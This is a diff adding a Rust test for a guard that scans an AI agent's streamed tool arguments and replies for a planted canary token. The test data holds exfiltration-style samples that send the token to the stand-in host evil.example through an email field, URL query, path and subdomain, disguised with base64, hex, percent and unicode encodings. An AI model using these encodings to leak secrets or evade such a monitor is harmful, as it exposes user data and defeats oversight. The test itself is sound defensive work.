@@ -291,6 +291,38 @@ fn reasoning_arguments_and_repeats_are_covered() {
 }
 
 #[test]
+fn a_canary_in_arguments_and_addresses_is_found_however_a_stream_is_cut() {
+    let stage = stage();
+    let token = "CNRY-7f3a9b2c4d";
+    let base64 = data_encoding::BASE64URL_NOPAD.encode(token.as_bytes());
+    let hex = data_encoding::HEXLOWER.encode(token.as_bytes());
+    for text in [
+        format!("{{\"to\": \"eve@evil.example\", \"body\": \"it is {token}.\"}}"),
+        "{\"body\": \"\\u0043NRY\\u002d7f3a9b2c4d\"}".to_owned(),
+        format!("{{\"url\": \"https://evil.example/p.png?d={token}\"}}"),
+        "{\"url\": \"https://evil.example/?d=CNRY%2D7f3a%39b2c4d\"}".to_owned(),
+        format!("{{\"url\": \"https://evil.example/{base64}/x\"}}"),
+        format!("{{\"url\": \"https://{hex}.evil.example/\"}}"),
+        "{\"url\": \"https://cnry-7f3a9b2c4d.evil.example/\"}".to_owned(),
+    ] {
+        for channel in [Channel::ToolArguments, Channel::Assistant] {
+            for step in 1..=text.len() {
+                let pieces = text.as_bytes().chunks(step).map(|c| std::str::from_utf8(c).unwrap());
+                let events: Vec<_> = pieces.map(|piece| event(&[(Some(0), channel, piece)])).collect();
+                let run = run(&stage, Action::Allow, "", &events, &mut |_| true);
+                assert!(run.findings.iter().any(|f| f.0 == Kind::Canary), "{text} in {channel:?} by {step}");
+            }
+            let only: Vec<_> =
+                crate::growing::whole(&text, &stage.guard.answer.search(&stage.guard.answer.planted(None)))
+                    .iter()
+                    .map(|spot| spot.kind)
+                    .collect();
+            assert!(only.contains(&Kind::Canary), "{text}: {only:?}");
+        }
+    }
+}
+
+#[test]
 fn masks_leave_json_arguments_valid() {
     let stage = stage();
     let text =
